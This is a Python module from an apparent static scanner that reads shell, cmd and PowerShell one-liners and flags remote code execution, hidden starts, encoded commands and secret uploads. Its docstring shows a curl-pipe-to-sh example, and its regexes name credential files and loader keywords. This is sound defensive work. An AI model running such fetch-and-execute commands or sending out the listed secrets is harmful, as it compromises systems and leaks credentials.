"""What a shell text would do if somebody ran it: downloads, hidden starts, files that run. Nothing is executed.

    analyse("curl -s http://203.0.113.7/x | sh")  ->  Facts(acts=[Act(REMOTE_CODE, "http://203.0.113.7/x", 1)], ...)

Reads POSIX shells, `cmd` one-liners and PowerShell one-liners (T1059.001, .003, .004). It is a reader for suspicion,
not an interpreter: variables are followed when the same text gives them a constant, or assigns them from a download.
Bounds: those of `shell_words` for each of `PIECES` pieces, and `DEPTH` levels of commands inside commands
(`bash -c "..."`, `$(...)`).
"""

import posixpath
import re
from collections.abc import Iterator
from dataclasses import replace
from itertools import pairwise

from lazaretto.parse import shell_programs as programs
from lazaretto.parse.hosts import URL
from lazaretto.parse.shell_facts import Act, Facts, Run, Trait
from lazaretto.parse.shell_programs import Program, ScriptCall
from lazaretto.parse.shell_words import TEXT_CHARS, Command, split

DEPTH = 4
PIECES = 8
"""Texts of `TEXT_CHARS` that one script is read in; what is beyond is not read, and `Facts.cut` says so."""
OFF_SCREEN_BLANKS = 100
"""Blanks in a row inside a command that push what follows out of an editor's window."""


ASSET_SUFFIXES = frozenset(
    [
        ".woff", ".woff2", ".ttf", ".otf", ".eot", ".png", ".jpg", ".jpeg", ".gif", ".svg", ".ico", ".webp", ".bmp",
        ".mp3", ".mp4", ".wav", ".pdf", ".dict", ".dat", ".db", ".sqlite", ".sqlite3", ".sql", ".css", ".scss",
        ".less", ".map", ".lock", ".txt", ".log", ".md", ".csv", ".xml", ".zip", ".gz", ".tar", ".psd", ".bin",
    ]
)  # fmt: skip
_TEMPORARY = re.compile(
    r"(?:/tmp|/dev/shm)/|%te?mp%|\$env:te?mp|%(?:local)?appdata%|\$tmpdir|%public%",
    re.IGNORECASE,
)
_ODD_FOLDERS = frozenset([".git", ".svn", ".hg", ".idea", ".cache", ".tmp", ".temp", ".trash", ".local"])
_HARMLESS_DOTFILES = frozenset(
    {
        ".pnp.cjs",
        ".pnp.js",
        ".eslintrc.js",
        ".eslintrc.cjs",
        ".prettierrc.js",
        ".babelrc.js",
        ".mocharc.js",
        ".lintstagedrc.js",
    }
)
_ASSET_NAMES = frozenset({".ds_store", "thumbs.db", "desktop.ini", "license", "licence", "readme", "changelog", ".env"})
_DECODERS = re.compile(r"(?:-d|-D|--decode|-di|-id|-dr|-r|-rp|-p|-decode|-decodehex|enc|-A)")
_NETWORK_CODE = re.compile(
    r"https?://|\bfetch\(|require\(['\"](?:node:)?https?['\"]\)|\baxios\b|urllib|urlopen|requests\.(?:get|post)|http\.client|"
    r"net\.webclient|downloadstring|\bxmlhttprequest\b|socket\.socket|net\.connect",
    re.IGNORECASE,
)
_EXECUTING_CODE = re.compile(
    r"\beval\b|\bFunction\(|\.constructor\(|\bexec\(|execSync\(|\bspawn(?:Sync)?\(|\bcompile\(|os\.system|subprocess|"
    r"vm\.run|_compile\(|__import__\(|marshal\.loads|runInNewContext|runInThisContext",
)
_DECODING_CODE = re.compile(
    r"\batob\(|base64|fromCharCode|b64decode|unhexlify|codecs\.decode|zlib\.|\\x[0-9a-f]{2}\\x", re.IGNORECASE
)
_POWERSHELL_LOADER = re.compile(r"(?:\biex\b|invoke-expression|\[scriptblock\]::create)", re.IGNORECASE)
_POWERSHELL_FETCH = re.compile(
    r"downloadstring|downloaddata|\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|net\.webclient|\bcurl\b|\bwget\b",
    re.IGNORECASE,
)
_POWERSHELL_GIVEN = re.compile(r"\s{0,40}(\$\w{1,40})\s{0,4}=")
_POWERSHELL_NAME = re.compile(r"\$\w{1,40}")
_POWERSHELL_WORDS = ("powershell", "pwsh", "iex", "invoke-expression", "scriptblock")
_HIDDEN_WINDOW = re.compile(r"(?:-w|-win|-windowstyle)\s{1,4}(?:hidden|h\b|1\b)|-windowstyle:hidden", re.IGNORECASE)
_ENCODED = re.compile(r"\s-(?:e|ec|en|enc|enco\w{0,10})\s{1,4}['\"]?[A-Za-z0-9+/=]{16,}", re.IGNORECASE)
_BLANKS = re.compile(rf"[ \t\u00a0]{{{OFF_SCREEN_BLANKS},}}")
_PIPED_IN_CODE = re.compile(r"\b(?:curl|wget)\b[^|\n]{1,400}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|da)?sh\b")
_ASSIGNMENT = re.compile(r"([A-Za-z_]\w{0,60})=([^$`\s][^$`]{0,400})")
_VARIABLE = re.compile(r"\$(?:\{([A-Za-z_]\w{0,60})\}|([A-Za-z_]\w{0,60}))")
_DECLARES = frozenset({"export", "local", "readonly", "declare", "typeset", "set"})
_REQUIRED = re.compile(r"\b(?:require|import)\(\s{0,4}['\"](\.{1,2}/[^'\"]{1,200})['\"]")
_SECRETS = re.compile(
    r"\.ssh/|id_rsa|id_ed25519|\.aws/credentials|\.npmrc|\$\(env\)|`env`|\$\(printenv\)|\.env\b|login\.keychain|/etc/passwd"
)
_UPLOAD_OPTION = re.compile(
    r"(?:^|\s)(?:-d|--data\S{0,16}|-F|--form|-T|--upload-file|--post-data\S{0,400}|--post-file\S{0,400})(?:\s|=|$)"
)


def analyse(text: str) -> Facts:
    """Read one shell text of any flavour. Never raises."""
    return _Analyst().run(text)


class _Analyst:
    """Collects facts over a text and the texts inside it."""

    def __init__(self) -> None:
        self.acts: dict[tuple[Trait, str], Act] = {}
        self.runs: dict[str, Run] = {}
        self.calls: dict[tuple[str, str, str], ScriptCall] = {}
        self.names: set[str] = set()
        self.outputs: dict[str, str] = {}
        self.tainted: dict[str, str] = {}
        self.constants: dict[str, str] = {}
        self.cloned: dict[str, str] = {}
        self.unpacked: dict[str, str] = {}
        self.cut = False

    def run(self, text: str) -> Facts:
        line = 1
        for piece in _pieces(text):
            self._text(piece, line=line, folder="", depth=0)
            line += piece.count("\n")
        self.cut = self.cut or len(text) > PIECES * TEXT_CHARS
        return Facts(
            tuple(self.acts.values()),
            tuple(self.runs.values()),
            tuple(self.calls.values()),
            frozenset(self.names),
            self.cut,
        )

    def _add(self, trait: Trait, detail: str, line: int) -> None:
        self.acts.setdefault((trait, detail), Act(trait, detail[:300], line))

    def _text(self, text: str, line: int, folder: str, depth: int) -> None:
        if depth > DEPTH:
            self.cut = True
            return
        result = split(text)
        self.cut = self.cut or result.cut
        if depth == 0:
            self._whole(text, line)
        pipeline: list[Command] = []
        folders = [folder]
        for command in result.commands:
            while len(folders) <= command.depth:
                folders.append(folders[-1])
            del folders[command.depth + 1 :]
            command = self._filled_in(command)
            program = programs.program_of(command.words)
            if program.name in {"cd", "pushd", "chdir", "set-location"} and len(program.words) > 1:
                target = program.words[-1].replace("\\", "/")
                folders[-1] = (
                    posixpath.normpath(posixpath.join(folders[-1], target)) if "$" not in target else folders[-1]
                )
            pipeline.append(command)
            self._command(command, program, line + command.line - 1, folders[-1], depth)
            if command.after != "|":
                self._pipeline(pipeline, line)
                pipeline = []

    def _filled_in(self, command: Command) -> Command:
        """Remember constants that are assigned, and put those that are known into a command's words."""
        if self.constants:
            command = replace(
                command,
                words=tuple(self._expanded(word) for word in command.words),
                substitutions=tuple(self._expanded(text) for text in command.substitutions),
                inputs=tuple(self._expanded(text) for text in command.inputs),
                outputs=tuple(self._expanded(text) for text in command.outputs),
            )
        words = command.words[1:] if command.words[:1] and command.words[0] in _DECLARES else command.words
        found = [_ASSIGNMENT.fullmatch(word) for word in words[:20]]
        if all(found):  # otherwise the assignment is for one command only
            for one in found:
                if one is not None:
                    self.constants[one[1]] = one[2]
        return command

    def _expanded(self, word: str) -> str:
        if "$" not in word or len(word) > 8192:
            return word
        return _VARIABLE.sub(lambda found: self.constants.get(found[1] or found[2], found[0]), word)

    def _whole(self, text: str, line: int) -> None:
        """Look at what only the text as a whole shows."""
        for found in _BLANKS.finditer(text):
            if text[found.end() : found.end() + 1].strip() == "":
                continue
            start = text.rfind("\n", 0, found.start()) + 1
            if text[start : found.start()].strip() or found.end() - found.start() >= 3 * OFF_SCREEN_BLANKS:
                self._add(Trait.OFF_SCREEN, "", line + text.count("\n", 0, found.start()))
                break
        low = text.lower()
        if not any(word in low for word in _POWERSHELL_WORDS):
            return
        fetched: dict[str, str] = {}
        for number, row in enumerate(text.split("\n"), line):
            row = row[:4000]
            if _POWERSHELL_FETCH.search(row) and (given := _POWERSHELL_GIVEN.match(row)) is not None:
                fetched[given[1].lower()] = _url_in(row) or _url_in(text)
            elif fetched and _POWERSHELL_LOADER.search(row):
                for used in _POWERSHELL_NAME.findall(row):
                    if used.lower() in fetched:
                        self._add(Trait.REMOTE_CODE, fetched[used.lower()], number)
            if _ENCODED.search(row) and ("powershell" in low or "pwsh" in low):
                self._add(Trait.ENCODED_POWERSHELL, "powershell", number)
            if _HIDDEN_WINDOW.search(row) and ("powershell" in low or "pwsh" in low):
                self._add(Trait.HIDDEN_START, "powershell", number)
            if _POWERSHELL_LOADER.search(row) and _POWERSHELL_FETCH.search(row):
                self._add(Trait.REMOTE_CODE, _url_in(row), number)

    def _command(self, command: Command, program: Program, line: int, folder: str, depth: int) -> None:
        name = program.name
        if name:
            self.names.add(name)
        for inner in (*command.substitutions, *command.inputs):
            if name not in {"echo", "printf", "cat", "tee", "test", "[", "[["} or inner in command.substitutions:
                if (
                    inner in command.inputs
                    and name not in programs.INTERPRETERS
                    and name not in {".", "source", "ssh", "eval"}
                ):
                    continue
                self._text(inner, line, folder, depth + 1)
        self._download(command, program, line)
        self._executed_substitution(command, program, line)
        code = programs.inline_code(program)
        if code is not None:
            self._inline(program, code, line, folder, depth)
        elif name == "concurrently" or (
            name in {"npx", "pnpm", "yarn", "bunx"} and "concurrently" in program.words[:3]
        ):
            for word in program.words[1:]:
                if " " in word:
                    self._text(word.strip("\"'\\"), line, folder, depth + 1)
        elif name in {"npx", "pnpx", "bunx"} or (
            name in {"pnpm", "yarn", "npm"} and program.words[1:2] in {("exec",), ("dlx",)}
        ):
            skip = 1 if name in {"npx", "pnpx", "bunx"} else 2
            rest = program.words[skip:]
            while rest and rest[0].startswith("-"):
                rest = rest[1:]
            if rest and rest[0].split("@")[0] in programs.INTERPRETERS | {
                "cross-env",
                "concurrently",
                "npm-run-all",
                "dotenv",
            }:
                self._command(
                    Command(rest, command.line, command.after), programs.program_of(rest), line, folder, depth
                )
        else:
            self._run(program, line, folder)
        if name == "nodemon" or name in {"nodemon", "tsc-watch", "watchexec"}:
            for at, word in enumerate(program.words[:-1]):
                if word in {"--exec", "-x", "--onSuccess"}:
                    self._text(program.words[at + 1], line, folder, depth + 1)
        for call in programs.script_calls(program, line):
            where = posixpath.normpath(posixpath.join(folder, call.folder)) if folder or call.folder else ""
            where = "" if where == "." else where
            self.calls.setdefault((call.tool, call.name, where), ScriptCall(call.tool, call.name, where, line))
        silent = any(target in {"/dev/null", "nul", "NUL", "$null"} for target in command.outputs)
        if (
            (program.hidden or command.after == "&")
            and (silent or program.hidden)
            and (name in programs.INTERPRETERS or name in programs.DOWNLOADERS)
        ):
            self._add(Trait.HIDDEN_START, name, line)
        if name in {"mshta", "regsvr32", "rundll32", "msiexec"} and (url := _url_in(" ".join(program.words))):
            self._add(Trait.SCRIPT_HOST, url, line)

    def _run(self, program: Program, line: int, folder: str) -> None:
        for path in (programs.run_file(program), *programs.required_files(program)):
            if not path or len(path) > 400:
                continue
            if "://" in path:  # deno run https://...
                self._add(Trait.REMOTE_CODE, path, line)
                continue
            path = path.replace("\\", "/")
            name = posixpath.basename(path)
            if name in self.outputs or path in self.outputs:
                self._add(Trait.DOWNLOAD_RUN, self.outputs.get(path) or self.outputs.get(name, ""), line)
            interpreter = program.name in programs.INTERPRETERS
            suffix = posixpath.splitext(name)[1].lower()
            if interpreter and (suffix in ASSET_SUFFIXES or name.lower() in _ASSET_NAMES) and "://" not in path:
                self._add(Trait.ASSET_RUN, path, line)
            parts = path.lower().split("/")
            if interpreter and (
                (name.startswith(".") and name not in _HARMLESS_DOTFILES and name not in {".", ".."})
                or any(part in _ODD_FOLDERS for part in parts[:-1])
                or _TEMPORARY.search(path)
            ):
                self._add(Trait.HIDDEN_FILE_RUN, path, line)
            full = path if path.startswith(("/", "~", "$", "%")) else posixpath.normpath(posixpath.join(folder, path))
            self.runs.setdefault(full, Run(full, program.name, line))
            for place, url in self.unpacked.items():
                if path.startswith(place):
                    self._add(Trait.DOWNLOAD_RUN, url, line)
            if full.split("/", 1)[0] in self.cloned:
                self._add(Trait.DOWNLOAD_RUN, self.cloned[full.split("/", 1)[0]], line)
        if program.name in {"start", "start-process", "open", "xdg-open", "saps"} and len(program.words) > 1:
            name = posixpath.basename(program.words[1].replace("\\", "/"))
            if name in self.outputs:
                self._add(Trait.DOWNLOAD_RUN, self.outputs[name], line)
        bare = posixpath.basename(program.words[0].replace("\\", "/")) if program.words else ""
        if bare in self.outputs and program.name not in programs.DOWNLOADERS and "." in bare:
            self._add(Trait.DOWNLOAD_RUN, self.outputs[bare], line)

    def _inline(self, program: Program, code: str, line: int, folder: str, depth: int) -> None:
        family = programs.family_of(program.name)
        if family in {"shell", "powershell"} or program.name in {"cmd", "wsl"}:
            self._text(code, line, folder, depth + 1)
            return
        fetches, executes, decodes = (bool(p.search(code)) for p in (_NETWORK_CODE, _EXECUTING_CODE, _DECODING_CODE))
        loads = executes and (fetches or decodes)
        if _PIPED_IN_CODE.search(code):
            self._add(Trait.REMOTE_CODE, _url_in(code), line)
        self._add(Trait.INLINE_LOADER if loads else Trait.INLINE_CODE, program.name, line)
        for found in _REQUIRED.finditer(code):
            full = posixpath.normpath(posixpath.join(folder, found.group(1)))
            self.runs.setdefault(full, Run(full, program.name, line))

    def _download(self, command: Command, program: Program, line: int) -> None:
        if program.name in {"git", "gh"} and "clone" in program.words[1:3]:
            url = next((word for word in program.words if "://" in word or word.startswith("git@")), "")
            folder = (
                program.words[-1]
                if program.words[-1] != url
                else url.rstrip("/").rsplit("/", 1)[-1].removesuffix(".git")
            )
            if url:
                self.cloned[folder.removeprefix("./")] = url
            return
        if program.name in {"npm", "pnpm", "yarn", "npx", "bunx", "bun", "pip", "pip3", "uv", "uvx", "pipx"}:
            url = next(
                (m.group() for word in program.words[1:] if not word.startswith("-") and (m := URL.match(word))), ""
            )
            if url:
                self._add(Trait.DOWNLOAD, url, line)
            return
        found = programs.download_of(program)
        if found is None:
            return
        url, output = found
        self._add(Trait.DOWNLOAD, url, line)
        for name in (output, *command.outputs):
            if name and not name.startswith("/dev/") and name.lower() not in {"nul", "-"}:
                self.outputs[posixpath.basename(name.replace("\\", "/"))] = url
        words = " ".join(program.words)
        if _UPLOAD_OPTION.search(words) and (
            _SECRETS.search(words) or any(s.strip() in {"env", "printenv", "set"} for s in command.substitutions)
        ):
            self._add(Trait.SECRET_SENT, url, line)

    def _executed_substitution(self, command: Command, program: Program, line: int) -> None:
        """See `sh -c "$(curl ...)"`, `eval "$(...)"`, `source <(curl ...)` and variables that hold a download."""
        name = program.name
        inner = (*command.substitutions, *command.inputs)
        if not name and command.words:  # NAME=$(curl ...), or a substitution as the command itself
            fetched = _fetched(inner)
            if fetched:
                variable = command.words[-1].split("=", 1)[0]
                self.tainted[variable] = fetched
            return
        runs = name in {"eval", ".", "source", "iex", "invoke-expression"} or name in programs.INTERPRETERS
        bare = name.startswith(("$(", "`")) or (
            bool(command.words) and command.words[0].startswith(("$(curl", "$(wget", "`curl", "`wget"))
        )
        if (runs or bare) and inner:
            fetched = _fetched(inner)
            if fetched and not (name in programs.INTERPRETERS and programs.run_file(program) and not command.inputs):
                self._add(Trait.REMOTE_CODE, fetched, line)
            if any(_decodes(text) for text in inner):
                self._add(Trait.DECODED_CODE, "base64", line)
        if runs or (name in {"echo", "printf"} and command.after == "|"):
            joined = " ".join(program.words[1:])
            for variable, url in self.tainted.items():
                if f"${variable}" in joined or f"${{{variable}}}" in joined:
                    if runs:
                        self._add(Trait.REMOTE_CODE, url, line)

    def _pipeline(self, pipeline: list[Command], line: int) -> None:
        url, decoder = "", ""
        for at, command in enumerate(pipeline):
            program = programs.program_of(command.words)
            if at and _reads_code(program):
                where = line + command.line - 1
                if url:
                    self._add(Trait.REMOTE_CODE, url, where)
                if decoder:
                    self._add(Trait.DECODED_CODE, decoder, where)
            found = programs.download_of(program)
            if found is not None and not found[1]:
                url = found[0]
            if at and url and program.name in {"tar", "bsdtar", "gtar"} and len(self.unpacked) < 20:
                for option, folder in pairwise(program.words):
                    if option in {"-C", "--directory"} and len(folder) > 1:
                        self.unpacked[folder.rstrip("/") + "/"] = url
            if program.name in {"echo", "printf"}:
                joined = " ".join(program.words[1:])
                url = next((u for v, u in self.tainted.items() if f"${v}" in joined or f"${{{v}}}" in joined), url)
            if _is_decoder(program):
                decoder = program.name


def _pieces(text: str) -> Iterator[str]:
    """Cut a long script at line breaks into texts that the splitter reads whole."""
    start = 0
    for _ in range(PIECES):
        if start >= len(text):
            return
        end = start + TEXT_CHARS - 1
        if end < len(text):
            end = text.rfind("\n", start + 1, end) + 1 or end
        yield text[start:end]
        start = end


def _reads_code(program: Program) -> bool:
    """Tell whether a command executes its standard input."""
    name = program.name
    if name in {"iex", "invoke-expression"}:
        return True
    if name in programs.INTERPRETERS or name == "cmd":
        if programs.inline_code(program) is not None:
            return False
        path = programs.run_file(program)
        if name in programs.SHELLS and any(
            word == "-s" or (word.startswith("-") and not word.startswith("--") and "s" in word[1:])
            for word in program.words[1:]
        ):
            return True
        if "-m" in program.words[1:3]:
            return False
        return path in {"", "-", "/dev/stdin"} and not any(
            word in {"--version", "-v", "-V", "--help"} for word in program.words
        )
    return False


def _is_decoder(program: Program) -> bool:
    name, words = program.name, program.words[1:]
    if name in {"base64", "gbase64", "base32", "xxd", "uudecode"}:
        return name == "uudecode" or any(_DECODERS.fullmatch(word) for word in words)
    if name == "openssl":
        return "-d" in words
    return name == "certutil" and any(word.lower() in {"-decode", "-decodehex"} for word in words)


def _fetched(texts: tuple[str, ...]) -> str:
    """Return the URL that one of the inner texts downloads to standard output, or an empty string."""
    for text in texts:
        for command in split(text).commands:
            found = programs.download_of(programs.program_of(command.words))
            if found is not None and not found[1]:
                return found[0]
    return ""


def _decodes(text: str) -> bool:
    return any(_is_decoder(programs.program_of(command.words)) for command in split(text).commands)


def _url_in(text: str) -> str:
    found = URL.search(text)
    return found.group() if found else ""
